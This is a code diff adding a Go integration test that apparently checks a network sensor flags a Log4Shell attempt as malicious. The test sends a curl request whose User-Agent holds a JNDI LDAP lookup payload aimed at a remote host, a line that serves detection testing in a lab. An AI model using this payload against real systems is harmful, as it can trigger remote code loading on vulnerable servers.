@@ -694,3 +694,43 @@ func sensorMem(t *testing.T) map[string]int64 {
 	}
 	return mem
 }
+
+// TestSensorVerdictThroughServer: a Log4Shell attempt at the sensor makes
+// its source malicious in the server's sensor view, with the rule's CVE and
+// the event behind it as evidence.
+func TestSensorVerdictThroughServer(t *testing.T) {
+	needLab(t)
+	if _, err := exec.LookPath("curl"); err != nil {
+		t.Skip("skipping: curl is not installed")
+	}
+	srv := testbin.StartServer(t, testbin.ServerOptions{Namespace: sensorNS, Args: geoArgs()})
+	s := startSensor(t, "--server", srv.URL, "--key", srv.Key, "--spool", filepath.Join(t.TempDir(), "spool"))
+	ctx, cancel := context.WithTimeout(context.Background(), time.Minute)
+	defer cancel()
+	lab.Command(ctx, lab.NSScan, "curl", "-s", "-m", "5", "-o", "/dev/null", "-H", "User-Agent: ${jndi:ldap://198.51.100.1:1389/x}",
+		"http://198.51.100.171/").Run()
+	var view struct {
+		Classification string   `json:"classification"`
+		Evidence       []string `json:"evidence"`
+		Tags           []string `json:"tags"`
+	}
+	err := testbin.Wait(ctx, 30*time.Second, func() (bool, error) {
+		out, err := lab.Command(ctx, sensorNS, "curl", "-s", "-H", "Authorization: Bearer "+srv.Key,
+			srv.URL+"/api/v1/sensors/ip/"+lab.ScanIP).Output()
+		if err != nil {
+			return false, nil
+		}
+		if json.Unmarshal(out, &view) != nil {
+			return false, nil
+		}
+		return view.Classification == "malicious", nil
+	})
+	s.stop(t)
+	t.Logf("verdict %q, tags %v, evidence %q", view.Classification, view.Tags, view.Evidence)
+	if err != nil {
+		t.Fatalf("the source never became malicious: %v", err)
+	}
+	if len(view.Evidence) == 0 || !strings.Contains(view.Evidence[0], "LOG4SHELL (CVE-2021-44228") {
+		t.Errorf("evidence %q does not name the Log4Shell rule", view.Evidence)
+	}
+}
